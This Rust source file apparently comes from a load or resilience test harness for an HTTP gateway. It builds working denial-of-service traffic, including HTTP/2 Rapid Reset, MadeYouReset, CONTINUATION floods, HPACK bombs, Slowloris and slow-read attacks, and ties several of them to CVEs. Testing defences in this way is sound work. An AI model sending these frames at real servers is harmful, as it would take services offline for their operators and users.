//! What offenders do.

use std::ops::Range;
use std::time::Duration;

use clap::ValueEnum;

use super::frames::{
    CONTINUATION, DATA, END, FIRST, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WHOLE,
    WINDOW_UPDATE, field, frame, remembered, request, setting,
};

/// Between the bytes of somebody slow.
pub const DRIP: Duration = Duration::from_millis(500);

/// Frames of a flood that are sent at once.
const BATCH: u32 = 100;

/// SETTINGS_HEADER_TABLE_SIZE.
const TABLE: u16 = 1;
/// SETTINGS_INITIAL_WINDOW_SIZE.
const WINDOW: u16 = 4;

/// Streams of a connection.
const STREAMS: u32 = 100;

/// Crumbs of a cookie in a request that is just about let through.
const CRUMBS: usize = 90;

/// A frame type that means nothing.
const UNKNOWN: u8 = 0xee;

/// What an offender does.
#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests followed by what makes the gateway reset them (CVE-2025-8671).
    MadeYouReset,
    /// A field block without end (CVE-2024-27316).
    Continuation,
    /// PING.
    Pings,
    /// SETTINGS, each of which wants an answer.
    Settings,
    /// SETTINGS that change the size of the table of fields to and fro.
    TableFlips,
    /// Frames of a type that nobody knows.
    UnknownFrames,
    /// Empty DATA frames (RUSTSEC-2026-0258).
    EmptyData,
    /// PRIORITY.
    Priorities,
    /// WINDOW_UPDATE by one.
    WindowUpdates,
    /// A small block that unpacks into much (CVE-2026-47774).
    HpackBomb,
    /// As many fields as are let through on a hundred streams, a byte each, with windows of nothing (CVE-2026-47774).
    Crumbs,
    /// A hundred uploads that get on by a byte now and then.
    SlowUploads,
    /// A hundred large answers with windows of one byte, none of which is read.
    TinyWindows,
    /// Heads of HTTP/1 that come byte by byte, on 200 connections.
    Slowloris,
    /// Large answers over HTTP/1 that are not read, on 50 connections.
    SlowRead,
}

/// How it goes on.
pub enum Manner {
    /// As fast as it is taken.
    Flood,
    /// A little now and then, reading nothing.
    Slow,
}

impl Kind {
    /// How many connections at once.
    pub fn at_once(self) -> usize {
        match self {
            Self::Slowloris => 200,
            Self::SlowRead => 50,
            _ => 1,
        }
    }

    /// How it goes on.
    pub fn manner(self) -> Manner {
        match self {
            Self::Crumbs | Self::SlowUploads | Self::TinyWindows | Self::Slowloris | Self::SlowRead => {
                Manner::Slow
            }
            _ => Manner::Flood,
        }
    }

    /// The bytes of a turn, and how many frames (or pieces) they are; nothing when all is said.
    pub fn turn(self, turn: u32) -> Option<(Vec<u8>, u64)> {
        match self {
            Self::Slowloris => Some(slowloris(turn)),
            Self::SlowRead => (turn == 0).then(|| (http1("/256k").repeat(8), 1)),
            _ if turn == 0 => Some((self.greeting(), 1)),
            Self::TinyWindows => {
                (turn == 1).then(|| on_streams(0..STREAMS, HEADERS, END | WHOLE, &request("GET", "/256k")))
            }
            Self::Crumbs => (turn == 1).then(|| {
                let block = [request("GET", "/256k"), vec![FIRST; CRUMBS]].concat();
                on_streams(1..STREAMS, HEADERS, END | WHOLE, &block)
            }),
            Self::SlowUploads if turn == 1 => {
                Some(on_streams(0..STREAMS, HEADERS, WHOLE, &request("POST", "/s")))
            }
            Self::SlowUploads => Some(on_streams(0..STREAMS, DATA, 0, b"a")),
            _ => Some(self.batch(turn)),
        }
    }

    fn greeting(self) -> Vec<u8> {
        let settings = match self {
            Self::TinyWindows => setting(WINDOW, 1),
            Self::Crumbs => setting(WINDOW, 0),
            _ => Vec::new(),
        };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat();
        match self {
            // What all others refer to.
            Self::Crumbs => {
                let block = [request("GET", "/s"), remembered("cookie", b"a")].concat();
                bytes.extend(frame(HEADERS, END | WHOLE, 1, &block));
            }
            Self::Continuation => bytes.extend(frame(HEADERS, END, 1, &request("GET", "/s"))),
            Self::EmptyData => bytes.extend(frame(HEADERS, WHOLE, 1, &request("POST", "/s"))),
            _ => {}
        }
        bytes
    }

    /// Frames of a flood.
    fn batch(self, turn: u32) -> (Vec<u8>, u64) {
        let first = (turn - 1) * BATCH;
        match self {
            Self::HpackBomb => {
                let mut block = request("GET", "/s");
                // What is remembered once is meant again with each byte.
                block.extend(remembered("cookie", &[b'c'; 3_900]));
                block.extend([FIRST; 12_000]);
                return (frame(HEADERS, END | WHOLE, 2 * turn - 1, &block), 1);
            }
            Self::Continuation => {
                let block = field("x-a", &[b'a'; 100]);
                return (frame(CONTINUATION, 0, 1, &block).repeat(BATCH as usize), u64::from(BATCH));
            }
            _ => {}
        }
        let frames = (first..first + BATCH).flat_map(|n| {
            let stream = 2 * n + 1;
            match self {
                Self::RapidReset => [
                    frame(HEADERS, END | WHOLE, stream, &request("GET", "/s")),
                    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()),
                ]
                .concat(),
                Self::MadeYouReset => {
                    let get = frame(HEADERS, END | WHOLE, stream, &request("GET", "/s"));
                    [get, wrong(n, stream)].concat()
                }
                Self::TableFlips => frame(SETTINGS, 0, 0, &setting(TABLE, if n % 2 == 0 { 0 } else { 4096 })),
                Self::UnknownFrames => frame(UNKNOWN, 0, 0, b"what?"),
                Self::Pings => frame(PING, 0, 0, b"are you?"),
                Self::Settings => frame(SETTINGS, 0, 0, &setting(WINDOW, 65_535)),
                Self::EmptyData => frame(DATA, 0, 1, b""),
                Self::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
                _ => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            }
        });
        let count = if matches!(self, Self::RapidReset | Self::MadeYouReset) { 2 * BATCH } else { BATCH };
        (frames.collect(), u64::from(count))
    }
}

/// A frame of this kind on each of these streams.
fn on_streams(streams: Range<u32>, kind: u8, flags: u8, payload: &[u8]) -> (Vec<u8>, u64) {
    let count = streams.len() as u64;
    (streams.flat_map(|n| frame(kind, flags, 2 * n + 1, payload)).collect(), count)
}

/// What no stream may get: each time another frame.
fn wrong(n: u32, stream: u32) -> Vec<u8> {
    match n % 4 {
        0 => frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
        1 => frame(PRIORITY, 0, stream, b"a"),
        2 => frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat()),
        _ => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
    }
}

/// A head whose next byte always comes.
fn slowloris(turn: u32) -> (Vec<u8>, u64) {
    match turn {
        0 => (b"GET /s HTTP/1.1\r\nHost: bench.test\r\nX-A: ".to_vec(), 1),
        _ => (b"a".to_vec(), 1),
    }
}

fn http1(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: bench.test\r\n\r\n").into_bytes()
}
